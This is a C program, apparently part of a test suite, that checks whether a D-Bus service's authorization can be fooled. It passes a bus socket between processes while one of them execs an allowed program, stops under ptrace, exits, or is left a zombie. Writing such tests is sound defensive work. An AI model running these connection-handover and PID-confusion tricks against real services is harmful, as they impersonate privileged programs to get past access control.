/* A connection that one process makes and another uses, while the first becomes an allowed program, or ends.

   hand-over HOW COMMAND...: COMMAND is the allowed program, and has to stay.
     called    it becomes the allowed program after a first call, by which the daemon knows it
     uncalled  it has said hello to the bus by then, and called nobody
     stopped   as uncalled, and of the allowed program not one instruction is run
     silent    it has connected by then, and said nothing
     kept      as silent, and the allowed program keeps the socket open, too
     swapped   as uncalled, and the allowed program has a connection that the other one made
     ended     it ends, and is waited for
     zombie    it ends, and is not waited for */
#include "attack.h"
#include <fcntl.h>
#include <signal.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *how;
static int is(const char *word) { return !strcmp(how, word); }

/* The process that connects: the other one has its socket from then on. */
static void make(char **command, int other) {
    prctl(PR_SET_PDEATHSIG, SIGTERM);
    int end = connect_socket();
    send_descriptor(other, end);
    char word;
    if (is("swapped") && fcntl(receive_descriptor(other), F_SETFD, 0) < 0) give_up("fcntl");
    if (read(other, &word, 1) != 1) give_up("the other one is gone");
    if (is("ended") || is("zombie")) _exit(0);
    if (is("stopped") && ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0) give_up("ptrace");
    if (is("kept") && fcntl(end, F_SETFD, 0) < 0) give_up("fcntl");
    become(command);
}

int main(int count, char **words) {
    const char *name;
    int pair[2];
    if (count < 3) return not_tried;
    how = words[1];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0) give_up("socketpair");
    pid_t maker = fork();
    if (maker < 0) give_up("fork");
    if (maker == 0) make(words + 2, pair[1]);
    close(pair[1]);

    int end = receive_descriptor(pair[0]);
    sd_bus *bus = NULL;
    if (is("called") || is("uncalled") || is("stopped") || is("swapped")) {
        bus = speak(end);
        if (sd_bus_get_unique_name(bus, &name) < 0) give_up("hello");
        if (is("called") && !gets(bus, ROOT, SERVICE ".Authorization", "WhoAmI", NULL, "")) return not_tried;
    }
    if (is("swapped")) {
        int mine = connect_socket();
        sd_bus *greeted = speak(dup(mine));
        if (sd_bus_get_unique_name(greeted, &name) < 0) give_up("hello");
        send_descriptor(pair[0], mine);
        close(mine);
        sd_bus_unref(greeted);
    }
    if (write(pair[0], "", 1) != 1) give_up("write");
    if (is("ended") || is("zombie")) {
        siginfo_t end_of_it;
        if (waitid(P_PID, (id_t)maker, &end_of_it, WEXITED | (is("zombie") ? WNOWAIT : 0)) < 0) give_up("waitid");
    } else {
        wait_until_it_runs_another(maker);
    }
    int came = capture(bus ? bus : speak(end));
    // Waited for: a number that still was a process's would be signalled.
    if (!is("ended")) kill(maker, SIGKILL);
    return came;
}
